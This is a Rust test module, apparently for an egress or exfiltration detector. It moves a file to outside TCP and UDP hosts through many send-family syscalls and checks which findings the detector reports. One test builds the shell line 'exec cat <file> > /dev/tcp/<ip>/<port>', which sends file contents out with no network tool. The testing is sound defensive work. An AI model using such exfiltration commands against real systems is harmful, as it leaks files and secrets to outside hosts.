//! Egress (TECHNIQUES 1G): every call of the send family, both protocols, both address families.

use std::{net::IpAddr, process::Command};

use tests::lab::{
    MIB,
    outside::{CONTROLLED, UNCONTROLLED, UNCONTROLLED_V6},
    process::Finished,
};

use crate::{
    expect::Expected,
    world::{PATIENCE, Test, World, size},
};

pub(crate) const TESTS: &[Test] = &[
    ("tcp_write", |w| tcp(w, UNCONTROLLED, "read", "write")),
    ("tcp_writev", |w| tcp(w, UNCONTROLLED, "read", "writev")),
    ("tcp_send", |w| tcp(w, UNCONTROLLED, "read", "send")),
    ("tcp_sendmsg", |w| tcp(w, UNCONTROLLED, "read", "sendmsg")),
    ("tcp_sendmmsg", |w| tcp(w, UNCONTROLLED, "read", "sendmmsg")),
    ("tcp_readv", |w| tcp(w, UNCONTROLLED, "readv", "send")),
    ("tcp_mapped", |w| tcp(w, UNCONTROLLED, "mmap", "write")),
    ("tcp_sendfile", |w| tcp(w, UNCONTROLLED, "sendfile", "-")),
    ("tcp_splice", |w| tcp(w, UNCONTROLLED, "splice", "-")),
    ("tcp_vmsplice", |w| tcp(w, UNCONTROLLED, "vmsplice", "-")),
    ("tcp_v6", |w| tcp(w, UNCONTROLLED_V6, "read", "write")),
    ("tcp_more_than_64_mib_is_critical", critical),
    ("udp_connected_send", |w| udp(w, UNCONTROLLED, "udp", "send")),
    ("udp_connected_write", |w| udp(w, UNCONTROLLED, "udp", "write")),
    ("udp_connected_sendmmsg", |w| udp(w, UNCONTROLLED, "udp", "sendmmsg")),
    ("udp_sendto", |w| udp(w, UNCONTROLLED, "unconnected", "sendto")),
    ("udp_sendmsg", |w| udp(w, UNCONTROLLED, "unconnected", "sendmsg")),
    ("udp_sendmmsg", |w| udp(w, UNCONTROLLED, "unconnected", "sendmmsg")),
    ("udp_sendto_v6", |w| udp(w, UNCONTROLLED_V6, "unconnected", "sendto")),
    ("bash_dev_tcp", bash_dev_tcp),
    ("controlled_peer_is_silent", controlled_peer_is_silent),
    ("two_peers_are_two_findings", two_peers_are_two_findings),
    ("pulled_by_the_outside", pulled_by_the_outside),
];

fn tcp(w: &mut World, ip: IpAddr, take: &str, put: &str) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(ip).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let mover = scene.run(&mut scene.mover(take, put, source, &format!("tcp:{addr}")));
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &mover, addr, "tcp", bytes)];
    scene.expect(&expected);
}

fn critical(w: &mut World) {
    let mut scene = w.prepare_sized(1, 80 * MIB);
    scene.start();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let mover = scene.run(&mut scene.mover("read", "send", source, &format!("tcp:{addr}")));
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &mover, addr, "tcp", bytes)];
    scene.expect(&expected);
}

/// `kind` is the mover's word for the destination.
fn udp(w: &mut World, ip: IpAddr, kind: &str, put: &str) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.udp(ip, size(source)).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let mut command = scene.mover("read", put, source, &format!("{kind}:{addr}"));
    let mover = scene.run(command.args(["--chunk", "32000"]));
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &mover, addr, "udp", bytes)];
    scene.expect(&expected);
}

/// No network tool at all: the shell's own.
fn bash_dev_tcp(w: &mut World) {
    World::needs("bash");
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let text = format!("exec cat {} > /dev/tcp/{}/{}", source.display(), addr.ip(), addr.port());
    let mut cat = scene.run(Command::new("bash").args(["-c", &text]));
    cat.exe = tests::lab::which("cat").expect("cat");
    cat.cmdline = Some(format!("cat {}", source.display()));
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &cat, addr, "tcp", bytes)];
    scene.expect(&expected);
}

fn controlled_peer_is_silent(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(CONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    scene.run(&mut scene.mover("sendfile", "-", source, &format!("tcp:{}", receiver.addr)));
    assert_eq!(scene.received(source, receiver), size(source));
    scene.expect_silence();
}

fn two_peers_are_two_findings(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let expected = [UNCONTROLLED, UNCONTROLLED_V6].map(|ip| {
        let receiver = scene.world.outside.tcp(ip).unwrap_or_else(|error| panic!("{error:#}"));
        let addr = receiver.addr;
        let mover = scene.run(&mut scene.mover("read", "send", source, &format!("tcp:{addr}")));
        Expected::egress(&scene, &mover, addr, "tcp", scene.received(source, receiver))
    });
    scene.expect(&expected);
}

/// The outside connects and asks; the bytes leave on an accepted socket.
fn pulled_by_the_outside(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let script = include_str!("scripts/serve_once.py");
    let mut server = scene.spawn(scene.python("serve_once.py", script).arg(source));
    let port: u16 = server.line().ok().and_then(|line| line.parse().ok()).expect("the server names its port");
    let puller = scene.world.outside.pull(port).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = puller.addr;
    let bytes = scene.received(source, puller);
    let server =
        server.finish(PATIENCE).and_then(Finished::success).unwrap_or_else(|error| panic!("{error:#}"));
    let expected = [Expected::egress(&scene, &server, addr, "tcp", bytes)];
    scene.expect(&expected);
}
